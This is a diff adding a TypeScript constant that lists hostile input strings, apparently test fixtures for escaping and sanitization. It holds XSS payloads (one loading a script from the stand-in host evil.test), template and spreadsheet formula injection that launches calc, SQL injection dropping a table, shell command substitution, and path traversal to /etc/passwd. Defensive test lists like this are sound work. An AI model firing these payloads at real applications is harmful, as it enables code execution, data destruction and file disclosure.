@@ -1,0 +1,25 @@
+/** What a browser, a template, a spreadsheet or a shell might run if it met it undressed. */
+// oxfmt-ignore
+export const xssStrings: readonly string[] = [
+  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "</script><script>alert(1)</script>", "<script\u0020>alert(1)</script\u0020>", "<img src=x onerror=alert(1)>",
+  "<img src=x:x onerror\u000c=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<svg onload=alert(1)>",
+  "<svg><script>alert&#40;1)</script>", "<svg/onload=alert(1)//", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
+  "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
+  "<a href=javascript:alert(1)>x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
+  "<math><mi xlink:href=data:x,<script>alert(1)</script>>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
+  "<video><source onerror=alert(1)>", "<audio src onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
+  "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
+  "<form><button formaction=javascript:alert(1)>x", "<isindex type=image src=1 onerror=alert(1)>",
+  "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<link rel=stylesheet href=javascript:alert(1)>",
+  "<style>@import'javascript:alert(1)';</style>", "<div style=\"width:expression(alert(1))\">", "<base href=javascript:alert(1)//>",
+  "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+  "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
+  "\"-alert(1)-\"", "';alert(1);//", "\\\";alert(1);//", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "#{7*7}",
+  "<%= 7*7 %>", "{%25 if 1 %25}", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
+  "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "\\x3cscript\\x3ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u2028alert(1)\u2029", "<!--<script>alert(1)-->",
+  "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?xml version=\"1.0\"?><x onload=alert(1)/>",
+  "=HYPERLINK(\"http://evil.test\")", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\u202etxt.exe", "\ufefftext", "a\u0300\u0301\u0302",
+  "'; DROP TABLE sales; --", "1 OR 1=1", "$(id)", "`id`", "| id", "../../etc/passwd", "%00", "__proto__", "constructor",
+];
